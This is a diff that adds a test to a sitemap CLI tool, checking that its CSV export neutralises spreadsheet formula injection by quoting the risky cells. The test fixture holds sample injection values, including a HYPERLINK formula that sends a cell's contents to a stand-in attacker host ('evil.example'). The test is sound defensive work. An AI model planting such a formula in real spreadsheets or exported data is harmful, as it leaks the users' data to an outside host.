@@ -66,6 +66,17 @@ describe('sitemapkit read', () => {
     assert.equal(tsv.stdout, 'loc\tlastmod\nhttps://www.example.com/sitemap-1.xml.gz\t2024-05-01\nhttps://www.example.com/sitemap-2.xml.gz\t\n');
   });
 
+  it('--format csv: a cell a spreadsheet would run as a formula starts with a quote, as text', async () => {
+    // Values the reader keeps as written (with their diagnostics); a loc that is no URL is not printed.
+    writeFileSync(
+      join(cwd, 'formulas.xml'),
+      '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://www.example.com/x</loc><lastmod>=HYPERLINK("http://evil.example/?"&amp;A1)</lastmod><changefreq>@SUM(1)</changefreq><priority>-1</priority></url><url><loc>https://www.example.com/y</loc><lastmod>+cmd</lastmod></url></urlset>',
+    );
+    const csv = await runCli(['read', 'formulas.xml', '--format', 'csv'], { cwd });
+    assert.equal(csv.code, 1);
+    assert.equal(csv.stdout, `loc,lastmod,changefreq,priority\nhttps://www.example.com/x,"'=HYPERLINK(""http://evil.example/?""&A1)","'@SUM(1)","'-1"\nhttps://www.example.com/y,"'+cmd",,\n`);
+  });
+
   it('--format urls: one loc per line', async () => {
     const r = await runCli(['read', 'urlset.xml', 'index.xml', '--format', 'urls'], { cwd });
     assert.equal(r.code, 0);
